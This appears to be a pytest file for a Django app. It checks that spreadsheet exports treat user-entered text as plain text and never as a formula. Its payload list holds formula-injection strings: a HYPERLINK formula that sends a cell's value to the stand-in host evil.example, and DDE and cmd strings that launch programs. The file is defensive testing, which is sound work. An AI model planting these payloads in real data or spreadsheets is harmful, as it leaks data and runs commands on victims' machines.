"""导出: what a user typed is text in every workbook, whatever sign it begins with; nothing in it acts (ASVS 5.0 V1.2.10)."""

import re
from contextlib import suppress
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.db import DatabaseError, models, transaction

from config import limits
from supervision.models.admissions import Secret
from supervision.services.admissions import admit
from tests.test_house import ROUTES

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"a")',
)
OWNERS = ("discipline", "office", "other_secretary", "sysadmin", "auditor", "secretary")
EXPORTS = {name: path for name, path in ROUTES if limits.LIMITED.get(("GET", name)) == "export"}
# Of these the sample has no text of anybody's: figures alone, or no row yet. They go through the same one writer (test_sheets.py).
FIGURES_ALONE = {"inspection_units_file", "report_statistics"}
NOTHING_TO_TELL = {"assessment_results_file", "record_evaluations_export", "risk_answer_export"}
# What a program reads again, or finds things by.
KEPT = re.compile(
    r"sha256|code|key|path|password|username|nonce|role|series|word|source|color|figures|file|address|target"
)


def written_everywhere(payload: str) -> int:
    """``payload`` in every text of every row that takes it."""
    count = 0
    for app in ("accountability", "meetings", "inspections", "supervision"):
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical") or model.__name__ in (
                "AuditEvent",
                "RateCount",
                "Job",
                "Heartbeat",
            ):
                continue
            for field in model._meta.concrete_fields:
                if _takes(field) and _set(model, field, payload):
                    count += 1
    return count


def _takes(field) -> bool:
    is_text = type(field) in (models.CharField, models.TextField)
    return is_text and not (field.choices or field.unique or field.primary_key or KEPT.search(field.name))


def _set(model, field, payload: str) -> bool:
    try:
        with transaction.atomic():
            return bool(model.objects.all().update(**{field.name: payload[: field.max_length]}))
    except DatabaseError:
        return False  # the database keeps this text to a form of its own


@pytest.mark.django_db
def test_no_payload_acts_in_any_export(client, people, theirs):
    for secret in Secret.values:
        with suppress(ValidationError):  # named for it already
            admit(by=people["secretary"], person=people["discipline"], secret=secret, reason="分管这项工作")
    handed_out, met = dict.fromkeys(EXPORTS, 0), {name: set() for name in EXPORTS}
    owner_of = {}
    for payload in PAYLOADS:
        assert written_everywhere(payload) > 100
        for name, path in EXPORTS.items():
            for owner in [owner_of[name]] if name in owner_of else OWNERS:
                client.force_login(people[owner], backend="django.contrib.auth.backends.ModelBackend")
                answer = client.get(path.format(pk=theirs.get(name, 1)))
                assert answer.status_code < 500, (name, payload)
                if answer.status_code == 200 and "spreadsheet" in answer["Content-Type"]:
                    owner_of[name] = owner
                    handed_out[name] += 1
                    met[name] |= texts_without_formula(b"".join(answer), name, payload)
                    break
    assert handed_out == dict.fromkeys(EXPORTS, len(PAYLOADS))
    assert {name for name in EXPORTS if not met[name]} == FIGURES_ALONE | NOTHING_TO_TELL
    assert sum(len(said) == len(PAYLOADS) for said in met.values()) > 12


def texts_without_formula(content: bytes, name: str, payload: str) -> set[str]:
    """The payload if a cell says it, word for word; fails on the first cell that would act."""
    with ZipFile(BytesIO(content)) as parts:
        for part in parts.namelist():
            if part.startswith("xl/worksheets/sheet"):
                assert not re.search(r"<f[ >/]", parts.read(part).decode()), (name, payload)
            assert "externalLink" not in part and "vbaProject" not in part
    book = openpyxl.load_workbook(BytesIO(content))
    said = {
        cell.value.replace("_x000D_", "\r")
        for sheet in book
        for row in sheet
        for cell in row
        if isinstance(cell.value, str)
    }
    for sheet in book:
        for row in sheet:
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None, (name, cell.coordinate)
    return {payload} if any(payload.strip() in text for text in said) else set()
